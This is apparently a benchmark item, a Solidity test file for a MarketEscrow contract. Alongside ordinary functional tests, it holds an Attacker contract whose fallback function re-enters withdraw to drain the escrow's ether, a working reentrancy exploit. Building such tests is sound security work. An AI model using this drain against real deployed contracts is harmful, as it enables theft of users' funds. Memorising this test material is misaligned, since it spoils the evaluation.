pragma solidity 0.4.26;

import "./MarketEscrow.sol";

// assay-canary-84a8dd86-7d91-47db-b3b7-7b4d7f0d58e4

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Deaf {
    function put(MarketEscrow escrow) public payable {
        require(address(escrow).call.value(msg.value)());
    }

    function get(MarketEscrow escrow) public {
        escrow.withdraw(1 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant CLERK = address(0xC1);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint private constant START = 1500000000;

    MarketEscrow private escrow;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.prank(CLERK);
        escrow = new MarketEscrow();
        vm.deal(ANA, 10 ether);
        vm.prank(ANA);
        require(address(escrow).call.value(8 ether)());
        mallory = new Attacker(escrow);
        vm.deal(address(mallory), 2 ether);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        uint first = escrow.order(BEN, 1 ether);
        uint second = escrow.order(BEN, 2 ether);
        uint third = escrow.order(BEN, 1 ether);
        escrow.accept(first);
        escrow.give(BEN, 1 ether);
        escrow.withdraw(3 ether);
        vm.stopPrank();
        require(ANA.balance == 5 ether && escrow.balances(BEN) == 2 ether);
        vm.prank(CLERK);
        escrow.refund(second);
        vm.warp(START + 7 days);
        escrow.accept(third);
        require(escrow.balances(ANA) == 2 ether && escrow.balances(BEN) == 3 ether);
        vm.prank(BEN);
        escrow.withdraw(3 ether);
        require(BEN.balance == 3 ether && escrow.orderCount() == 3);
    }

    function test_RefusesOrders() public {
        vm.startPrank(ANA);
        vm.expectRevert("");
        escrow.order(0, 1);
        vm.expectRevert("");
        escrow.order(BEN, 0);
        vm.expectRevert("");
        escrow.order(BEN, 9 ether);
        vm.expectRevert("");
        escrow.give(0, 1);
        vm.expectRevert("");
        escrow.give(BEN, 9 ether);
        vm.expectRevert("");
        escrow.withdraw(0);
        vm.expectRevert("");
        escrow.withdraw(8.1 ether);
        vm.stopPrank();
    }

    function test_RefusesFinishing() public {
        vm.prank(ANA);
        uint id = escrow.order(BEN, 1 ether);
        vm.expectRevert("");
        escrow.accept(id);
        vm.expectRevert("");
        escrow.refund(id);
        vm.startPrank(ANA);
        escrow.accept(id);
        vm.expectRevert("");
        escrow.accept(id);
        vm.stopPrank();
    }

    function test_RefusesDeafAccounts() public {
        Deaf deaf = new Deaf();
        vm.deal(address(this), 1 ether);
        deaf.put.value(1 ether)(escrow);
        vm.expectRevert("");
        deaf.get(escrow);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 8 ether);
    }

    function target() public view returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    MarketEscrow private escrow;
    uint private left;

    function Attacker(MarketEscrow e) public {
        escrow = e;
    }

    function run() public {
        require(address(escrow).call.value(2 ether)());
        left = 3;
        escrow.withdraw(2 ether);
    }

    function () public payable {
        if (left > 0) {
            left--;
            escrow.withdraw(2 ether);
        }
    }
}
